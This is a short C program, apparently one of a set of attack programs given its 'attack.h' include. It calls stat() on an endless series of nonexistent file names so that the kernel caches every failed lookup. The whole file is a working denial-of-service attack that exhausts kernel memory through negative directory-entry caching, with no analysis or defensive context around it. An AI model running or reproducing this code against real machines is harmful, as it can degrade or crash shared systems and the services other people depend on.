/* Asks for names that are not there: the kernel remembers each of them. */
#include "attack.h"
#include <sys/stat.h>

int main(void)
{
    struct stat status;
    char name[256];

    memset(name, 'n', sizeof(name));
    for (unsigned long i = 0;; i++) {
        snprintf(name + 200, sizeof(name) - 200, "%lu", i);
        (void)!stat(name, &status);
    }
}
